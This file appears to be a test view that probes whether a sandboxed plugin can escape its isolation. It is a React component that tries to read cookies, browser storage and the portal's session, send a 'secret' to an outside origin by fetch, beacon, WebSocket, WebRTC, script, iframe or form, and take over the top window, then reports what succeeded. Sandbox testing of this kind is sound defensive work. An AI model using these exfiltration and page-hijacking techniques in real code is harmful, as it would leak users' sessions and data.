import type { ViewProps } from '@samlar/view-contract/view';
import { useEffect, useState } from 'react';

const attempt = (work: () => unknown): Promise<string> =>
  Promise.resolve().then(work).then((got) => (got === undefined || got === '' ? 'inget' : `FICK ${JSON.stringify(got)}`), (error: Error) => `nekad (${error.name})`);

const element = (tag: 'img' | 'script' | 'link' | 'iframe', given: object): Promise<unknown> => new Promise((resolve, reject) => {
  const made = Object.assign(document.createElement(tag), given);
  made.addEventListener('load', () => resolve(tag === 'iframe' ? undefined : 'kom'));
  made.addEventListener('error', () => reject(new Error(tag)));
  document.head.append(made);
  setTimeout(() => resolve(undefined), 1_500);
});

const triesAt = (elsewhere: string): Record<string, () => unknown> => ({
  cookies: () => document.cookie,
  'local storage': () => JSON.stringify({ ...localStorage }),
  'session storage': () => JSON.stringify({ ...sessionStorage }),
  'a database': () => new Promise((resolve, reject) => Object.assign(indexedDB.open('a'), { onsuccess: () => resolve('kom'), onerror: () => reject(new Error('db')) })),
  'its portal’s data': () => fetch('/session').then((response) => response.text()),
  'another origin': () => fetch(`${elsewhere}/?secret`, { mode: 'no-cors' }).then(() => 'kom'),
  'a beacon': () => (navigator.sendBeacon(`${elsewhere}/beacon`, 'secret') ? undefined : ''),
  'a picture': () => element('img', { src: `${elsewhere}/picture.png` }),
  'another’s script': () => element('script', { src: `${elsewhere}/script.js` }),
  'the portal’s script': () => element('script', { src: '/theme.css' }),
  'another’s style': () => element('link', { rel: 'stylesheet', href: `${elsewhere}/style.css` }),
  'a frame': () => element('iframe', { src: `${elsewhere}/frame` }),
  'a socket': () => new Promise((resolve, reject) => Object.assign(new WebSocket(elsewhere.replace('http', 'ws')), { onopen: () => resolve('kom'), onerror: () => reject(new Error('socket')) })),
  'another machine': async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: elsewhere.replace(/^http:../, 'stun:') }] });
    call.createDataChannel('secret');
    await call.setLocalDescription(await call.createOffer());
    return 'kom';
  },
  'a worker': () => new Promise((resolve, reject) => Object.assign(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), { onmessage: () => resolve('kom'), onerror: () => reject(new Error('worker')) })),
  'code from text': () => Reflect.apply(Reflect.get(window, 'eval') as (text: string) => unknown, window, ['"kom"']),
  'the page around it': () => window.top!.document.title,
  'another page in its place': () => {
    window.top!.location.href = `${elsewhere}/top`;
  },
  'a window': () => (window.open(`${elsewhere}/window`) ? 'kom' : ''),
  'a form': () => {
    const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post', target: '_top' });
    document.body.append(form);
    form.submit();
  },
});

/** Tries every way out, and says what it got. `?elsewhere=` is another origin's address. */
export default function Burglar({ search }: ViewProps) {
  const elsewhere = search.get('elsewhere') ?? '';
  const [said, setSaid] = useState<string[]>([]);
  useEffect(() => {
    void (async () => {
      for (const [what, work] of Object.entries(triesAt(elsewhere))) {
        const got = await attempt(work);
        setSaid((before) => [...before, `${what}: ${got}`]);
      }
      setSaid((before) => [...before, 'klar']);
    })();
  }, [elsewhere]);
  return <ul>{said.map((each) => <li key={each}>{each}</li>)}</ul>;
}
